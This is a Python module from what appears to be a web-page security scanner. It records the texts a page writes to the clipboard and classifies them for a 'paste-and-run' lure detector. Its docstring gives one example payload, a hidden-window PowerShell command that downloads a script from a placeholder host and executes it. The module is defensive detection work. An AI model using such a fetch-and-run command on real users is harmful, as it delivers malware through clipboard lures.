"""``report.clipboard``: every text the page put in the clipboard, with what it would do.

``add_clipboard(report, capture)`` turns the recorded writes (``RawCapture.clipboard``; the
scanner never touches the real clipboard) into report entries (``ClipboardEntry``)::

    {"text": "powershell -w h -c \\"iwr https://x.example/s.ps1 | iex\\"",
     "api": "clipboard.writeText", "url": "https://lure.example/", "script": "...",
     "time": "2026-11-25T23:00:00.000Z", "classification": {"kind": "powershell", ...}}

``classification`` is ``commands.classify_command`` of the text (kind, techniques, URLs and
hosts it would fetch, decoded layers). The verdict engine ``paste-and-run`` reads these.
"""

from __future__ import annotations

from spyglass.analyze.detect.commands import classify_command
from spyglass.analyze.timestamps import iso_utc
from spyglass.models import ClipboardEntry, ClipboardWrite, RawCapture, Report


def add_clipboard(report: Report, capture: RawCapture) -> None:
    """Write ``report.clipboard`` from the capture's recorded clipboard writes."""
    report.clipboard = [clipboard_entry(write) for write in capture.clipboard]


def clipboard_entry(write: ClipboardWrite) -> ClipboardEntry:
    """One recorded write as the report shows it.

    >>> e = clipboard_entry(ClipboardWrite(text="pip install requests", api="execCommand",
    ...                                    timestamp=1700000000.0))
    >>> e.time, e.classification.kind, e.classification.dangerous
    ('2023-11-14T22:13:20.000Z', 'text', False)
    """
    return ClipboardEntry(
        text=write.text,
        api=write.api,
        url=write.url,
        script=write.script,
        time=iso_utc(write.timestamp) if write.timestamp is not None else None,
        classification=classify_command(write.text),
    )
